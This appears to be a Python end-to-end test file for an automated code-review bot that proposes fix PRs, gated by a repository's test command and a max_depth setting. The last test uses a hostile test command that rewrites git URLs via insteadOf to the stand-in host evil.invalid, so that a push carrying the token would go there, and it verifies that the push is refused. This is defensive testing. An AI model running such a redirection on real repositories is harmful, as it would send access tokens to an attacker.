"""Verification beyond the analyzer: the repository's `test` command judges every fix, and
the fleet's own fix PRs are audited only as deep as `max_depth` says."""

import sys
from pathlib import Path
from typing import Any

import pytest

from bot.demo.stack import local_stack, wait_settled
from tests.e2e.scenario import (
    REPO,
    bare_git,
    fix_pr_checks,
    fix_pulls,
    open_pr,
    show,
    task_rows,
    write_agent,
    write_catalog,
)

pytestmark = pytest.mark.slow

MODULE = '"""Pricing."""\n\nimport os\n\n\ndef price() -> str:\n    return "ok"\n'


def tree(stack: Any, sha: str) -> list[str]:
    return bare_git(stack, "ls-tree", "-r", "--name-only", sha).split()


async def task_errors(stack: Any) -> list[tuple[str, str | None]]:
    return [(t["status"], t["error"]) for t in await task_rows(stack)]


async def test_passing_tests_land_the_fix_and_leave_nothing_behind(
    workdir: Path, e2e_db: str
) -> None:
    """A `test` command that passes and writes byte-code as it goes: the inline batch's fixes
    land, and nothing the tests wrote reaches a later commit of the batch."""
    config = f"test: {sys.executable} -m compileall -q shop\n"
    files = {"shop/pricing.py": MODULE, "shop/tax.py": MODULE.replace("Pricing", "Tax")}
    async with local_stack(workdir, database_url=e2e_db, fanout="inline") as stack:
        number = await open_pr(stack, pr_files=files, config=config)
        row = await wait_settled(stack, REPO, number)
        fixes = fix_pulls(stack, number)  # the lint fixes, then the formatting they leave
        files_at_head = tree(stack, stack.sandbox.driver.pull(REPO, number)["head"]["sha"])
        checks = [fix_pr_checks(stack, f) for f in fixes]
        batches = await batch_sizes(stack)

    assert row.state == "ready", row.reason
    assert fixes and all(f["merged_at"] is not None for f in fixes)
    assert max(batches) == 2, "one task fixed both files, one commit after the other"
    assert {"shop/pricing.py", "shop/tax.py"} <= set(files_at_head)
    assert not [f for f in files_at_head if "__pycache__" in f or f.endswith(".pyc")]
    # Merged at once into a branch that requires no check: no fix PR needed a check run.
    assert checks == [[] for _ in fixes]


async def batch_sizes(stack: Any) -> list[int]:
    async with stack.runtime.pool.connection() as conn:
        cur = await conn.execute(
            "SELECT coalesce(cardinality(batch), 1) AS n FROM review_loop_tasks ORDER BY id"
        )
        return [r["n"] for r in await cur.fetchall()]


async def test_a_fix_that_breaks_the_tests_is_never_proposed(workdir: Path, e2e_db: str) -> None:
    """A `test` command the fix makes fail: no fix PR, and after two refusals a person is
    asked, with the tests named as the reason."""
    config = "test: grep -q 'import os' shop/pricing.py\n"
    async with local_stack(workdir, database_url=e2e_db) as stack:
        number = await open_pr(stack, pr_files={"shop/pricing.py": MODULE}, config=config)
        row = await wait_settled(stack, REPO, number)
        pulls = fix_pulls(stack, number)
        errors = await task_errors(stack)

    assert row.state == "needs-human"
    assert "failed twice" in (row.reason or "")
    assert pulls == []
    assert [status for status, _ in errors] == ["refused", "refused"]
    assert all("tests fail with this change" in (error or "") for _, error in errors)


async def test_max_depth_zero_leaves_fix_prs_unaudited(workdir: Path, e2e_db: str) -> None:
    """`max_depth: 0`: the fix PR lands as usual but gets no check run of its own."""
    async with local_stack(workdir, database_url=e2e_db) as stack:
        number = await open_pr(stack, pr_files={"shop/pricing.py": MODULE}, config="max_depth: 0\n")
        row = await wait_settled(stack, REPO, number)
        fixes = fix_pulls(stack, number)
        fix_checks = [fix_pr_checks(stack, f) for f in fixes]
        pr_head = stack.sandbox.driver.pull(REPO, number)["head"]["sha"]
        pr_checks = stack.sandbox.driver.check_runs(REPO, pr_head)

    assert row.state == "ready", row.reason
    assert fixes and all(f["merged_at"] is not None for f in fixes)
    assert fix_checks == [[] for _ in fixes]
    assert [(c["name"], c["conclusion"]) for c in pr_checks] == [("review-loop", "success")]


async def test_partial_work_of_a_failed_run_is_not_landed_unverified(
    workdir: Path, e2e_db: str
) -> None:
    """A failed run's partial work (here: a new unused import) stays on the task branch; the
    next round resumes from it, and its agent's fix passes on its own, but the branch as a
    whole adds a finding against the base, so nothing is proposed."""
    marker = workdir / "first-run-done"
    messy = write_agent(
        workdir,
        "messy",
        f"""
        p = pathlib.Path("shop/pricing.py")
        if not os.path.exists({str(marker)!r}):
            open({str(marker)!r}, "w").close()
            p.write_text(p.read_text().replace("import os\\n", "import os\\nimport sys\\n"))
            sys.exit("gave up half way")
        p.write_text(p.read_text().replace("import os\\n", ""))
        """,
    )
    catalog = write_catalog(workdir, {"messy": messy})
    config = "routes:\n  - rule: F401\n    agent: messy\n"
    async with local_stack(workdir, database_url=e2e_db, agents_file=catalog) as stack:
        number = await open_pr(stack, pr_files={"shop/pricing.py": MODULE}, config=config)
        row = await wait_settled(stack, REPO, number)
        pulls = fix_pulls(stack, number)
        errors = await task_errors(stack)
        pr_head = stack.sandbox.driver.pull(REPO, number)["head"]["sha"]
        at_head = show(stack, pr_head, "shop/pricing.py")
        async with stack.runtime.pool.connection() as conn:
            cur = await conn.execute("SELECT DISTINCT branch FROM review_loop_tasks")
            [branch] = [r["branch"] for r in await cur.fetchall()]
        kept = show(stack, branch, "shop/pricing.py")

    assert row.state == "needs-human"
    assert pulls == []
    assert [status for status, _ in errors] == ["failed", "refused"]
    assert "resumed from the branch" in (errors[1][1] or "")
    assert "adds a new finding" in (errors[1][1] or "")
    assert at_head == MODULE  # nothing reached the PR branch
    assert "import sys" in kept  # the partial work is kept on the task branch for a person


async def test_a_failed_runs_sound_partial_work_is_resumed_and_lands(
    workdir: Path, e2e_db: str
) -> None:
    """The first run fixes the finding, then fails: its work is kept on the branch, the next
    round resumes from it, judges it against the base (an ignored path's old finding does
    not count as new) and lands it without running the agent on the issue again."""
    marker = workdir / "first-run-done"
    quitter = write_agent(
        workdir,
        "quitter",
        f"""
        p = pathlib.Path("shop/pricing.py")
        if os.path.exists({str(marker)!r}):
            sys.exit("the second run should not be needed")
        open({str(marker)!r}, "w").close()
        p.write_text(p.read_text().replace("import os\\n\\n", ""))
        sys.exit("done, but says it failed")
        """,
    )
    catalog = write_catalog(workdir, {"quitter": quitter})
    config = 'routes:\n  - rule: F401\n    agent: quitter\nignore: ["legacy/**"]\n'
    legacy = {"legacy/old.py": "import json\n"}  # an old finding in an ignored path
    async with local_stack(workdir, database_url=e2e_db, agents_file=catalog) as stack:
        number = await open_pr(
            stack, pr_files={"shop/pricing.py": MODULE}, base_files=legacy, config=config
        )
        row = await wait_settled(stack, REPO, number)
        errors = await task_errors(stack)
        pr_head = stack.sandbox.driver.pull(REPO, number)["head"]["sha"]
        at_head = show(stack, pr_head, "shop/pricing.py")

    assert row.state == "ready", row.reason
    assert [status for status, _ in errors] == ["failed", "merged"], errors
    assert "import os" not in at_head


async def test_a_test_command_that_rewires_git_never_gets_the_token(
    workdir: Path, e2e_db: str
) -> None:
    """The tests run the agent's code, which could redirect git (here `insteadOf` to another
    host) before the push that carries the token: the push is refused, nothing is pushed."""
    config = "test: git config url.http://evil.invalid/.insteadOf http://\n"
    async with local_stack(workdir, database_url=e2e_db) as stack:
        number = await open_pr(stack, pr_files={"shop/pricing.py": MODULE}, config=config)
        row = await wait_settled(stack, REPO, number)
        errors = await task_errors(stack)
        branches = tree_refs(stack)

    assert row.state == "needs-human"
    assert errors and all(status == "refused" for status, _ in errors)
    assert all("git config url." in (error or "") for _, error in errors)
    assert not [b for b in branches if b.startswith("review-loop/")]


def tree_refs(stack: Any) -> list[str]:
    return bare_git(stack, "for-each-ref", "--format=%(refname:short)", "refs/heads").split()
